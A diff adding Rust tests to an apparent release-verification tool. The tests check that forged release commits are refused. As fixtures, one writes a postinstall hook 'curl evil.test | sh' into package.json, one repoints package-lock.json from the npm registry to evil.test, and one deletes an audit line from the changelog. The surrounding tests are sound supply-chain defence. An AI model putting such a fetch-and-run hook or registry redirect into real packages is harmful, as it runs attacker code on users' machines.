@@ -506,3 +506,102 @@ fn trust_by_branch_name_is_refused() {
         run.stderr()
     );
 }
+
+// ---------------------------------------------------------------------------
+// The release commit
+
+const PACKAGE_JSON: &str = "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"true\"\n  }\n}\n";
+const PACKAGE_LOCK: &str = "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"\": {\n      \"name\": \"app\",\n      \"version\": \"1.0.0\"\n    },\n    \"node_modules/left-pad\": {\n      \"version\": \"1.3.0\",\n      \"resolved\": \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\"\n    }\n  }\n}\n";
+
+/// An honest, approved release v1.1.0 made by `tag` (with a release commit
+/// that updates the changelog, package.json and package-lock.json).
+fn released_app() -> Scene {
+    let policy = format!("version-files = [\"package.json\"]\n{POLICY}");
+    let mut s = Scene::with_files(&[
+        (".release.toml", &policy),
+        ("package.json", PACKAGE_JSON),
+        ("package-lock.json", PACKAGE_LOCK),
+        (
+            "CHANGELOG.md",
+            "# Changelog\n\n## 1.0.0\n\n- Audited by the security team.\n",
+        ),
+    ]);
+    s.commit_file("src.txt", "feature", "feat: x");
+    s.tests_pass();
+    s.bea_approves("v1.1.0");
+    s.repo.run(&["tag"]).expect(0);
+    s
+}
+
+/// Rewrites the release commit with `edit`, keeping the tag's record.
+fn forge_release_commit(s: &mut Scene, edit: impl Fn(&Path)) {
+    let message = s.repo.git(&["tag", "-l", "--format=%(contents)", "v1.1.0"]);
+    edit(&s.repo.path());
+    s.repo.git(&["add", "."]);
+    s.repo.git(&["commit", "-q", "--amend", "--no-edit"]);
+    s.repo
+        .git(&["tag", "-f", "-a", "v1.1.0", "-m", message.trim()]);
+}
+
+#[test]
+fn the_honest_release_commit_verifies() {
+    let mut s = released_app();
+    let text = std::fs::read_to_string(s.repo.path().join("package.json")).unwrap();
+    assert!(text.contains("\"version\": \"1.1.0\""), "{text}");
+    let run = s.ci_verify("v1.1.0", Some("v1.0.0"));
+    run.expect(0);
+    assert!(
+        run.stdout().contains("as `tag` writes them"),
+        "{}",
+        run.stdout()
+    );
+}
+
+#[test]
+fn a_release_commit_cannot_add_an_install_script() {
+    let mut s = released_app();
+    forge_release_commit(&mut s, |dir| {
+        let path = dir.join("package.json");
+        let text = std::fs::read_to_string(&path).unwrap().replace(
+            "\"test\": \"true\"",
+            "\"test\": \"true\",\n    \"postinstall\": \"curl evil.test | sh\"",
+        );
+        std::fs::write(path, text).unwrap();
+    });
+    refused(
+        &s.ci_verify("v1.1.0", Some("v1.0.0")),
+        "`package.json` is not what `tag` writes",
+    );
+}
+
+#[test]
+fn a_release_commit_cannot_point_a_lock_file_elsewhere() {
+    let mut s = released_app();
+    forge_release_commit(&mut s, |dir| {
+        let path = dir.join("package-lock.json");
+        let text = std::fs::read_to_string(&path)
+            .unwrap()
+            .replace("registry.npmjs.org", "evil.test");
+        std::fs::write(path, text).unwrap();
+    });
+    refused(
+        &s.ci_verify("v1.1.0", Some("v1.0.0")),
+        "`package-lock.json` is not what `tag` writes",
+    );
+}
+
+#[test]
+fn a_release_commit_cannot_rewrite_the_changelog() {
+    let mut s = released_app();
+    forge_release_commit(&mut s, |dir| {
+        let path = dir.join("CHANGELOG.md");
+        let text = std::fs::read_to_string(&path)
+            .unwrap()
+            .replace("- Audited by the security team.\n", "");
+        std::fs::write(path, text).unwrap();
+    });
+    refused(
+        &s.ci_verify("v1.1.0", Some("v1.0.0")),
+        "`CHANGELOG.md` changes or removes hand-written lines",
+    );
+}
